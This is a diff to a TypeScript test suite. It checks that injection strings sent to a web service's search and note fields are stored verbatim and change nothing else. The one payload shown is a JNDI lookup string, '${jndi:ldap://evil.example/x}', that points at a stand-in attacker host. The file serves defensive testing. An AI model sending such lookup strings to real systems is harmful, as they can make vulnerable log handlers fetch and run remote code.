@@ -1,6 +1,7 @@
 import { useService } from '../../support/app';
 import { givenPost } from '../../support/posts';
 import { logIn } from '../auth/session-factory';
+import { unblock } from '../reblog-controls/blocklists';
 
 /** Texts that mean something to an interpreter behind some service: SQL, shells, templates, headers, logs, sheets, documents. */
 const INJECTIONS = [
@@ -33,8 +34,6 @@ const INJECTIONS = [
   '${jndi:ldap://evil.example/x}',
 ];
 
-const SEARCHES = ['q', 'author', 'error_reason'];
-
 describe('a text that means something to an interpreter', () => {
   const service = useService();
   let id: number;
@@ -43,35 +42,25 @@ describe('a text that means something to an interpreter', () => {
   });
 
   it.each(INJECTIONS)('is searched for and not found: %j', async (text) => {
-    for (const name of SEARCHES) {
-      const answer = await service.api.get(`/posts?${name}=${encodeURIComponent(text)}`).expect(200);
-      expect(answer.body).toMatchObject({ items: [], total: 0 });
-    }
+    for (const name of ['q', 'author', 'error_reason'])
+      expect(await service.read(`/posts?${name}=${encodeURIComponent(text)}`)).toMatchObject({ items: [], total: 0 });
   });
 
   it.each(INJECTIONS)('is stored as it is where any text may be: %j', async (text) => {
     const { body } = await service.api.patch(`/posts/${id}`).send({ reviewer_notes: text }).expect(200);
     expect(body.reviewer_notes).toBe(text);
-    const blocked = await service.api
-      .post('/reblog-controls/blocked-users')
-      .send({ account_id: '@spam@spam.example', reason: text })
-      .expect(201);
-    expect(blocked.body.reason).toBe(text);
-    await service.api.delete(`/reblog-controls/blocked-users/${blocked.body.id}`).expect(204);
+    const entry = { account_id: '@spam@spam.example', reason: text };
+    const blocked = (await service.api.post('/reblog-controls/blocked-users').send(entry).expect(201)).body;
+    expect(blocked.reason).toBe(text);
+    await unblock(service, 'users', blocked.id);
   });
 
   it('changed nothing but the notes', async () => {
-    const totals = ['/posts', '/hashtags', '/reblog-controls/blocked-users', '/reblog-controls/blocked-hashtags'].map(
-      async (path) => [path, (await service.read(path)).total],
-    );
-    expect(Object.fromEntries(await Promise.all(totals))).toEqual({
-      '/posts': 1,
-      '/hashtags': 1,
-      '/reblog-controls/blocked-users': 0,
-      '/reblog-controls/blocked-hashtags': 0,
-    });
-    const post = await service.api.get(`/posts/${id}`).expect(200);
-    expect(post.body).toMatchObject({ approved: false, reviewed_at: null, queue_status: 'pending' });
+    const lists = ['/posts', '/hashtags', '/reblog-controls/blocked-users', '/reblog-controls/blocked-hashtags'];
+    const totals = await Promise.all(lists.map(async (path) => (await service.read(path)).total));
+    expect(totals).toEqual([1, 1, 0, 0]);
+    const untouched = { approved: false, reviewed_at: null, queue_status: 'pending' };
+    expect(await service.read(`/posts/${id}`)).toMatchObject(untouched);
     await logIn(service).expect(200);
     expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
   });
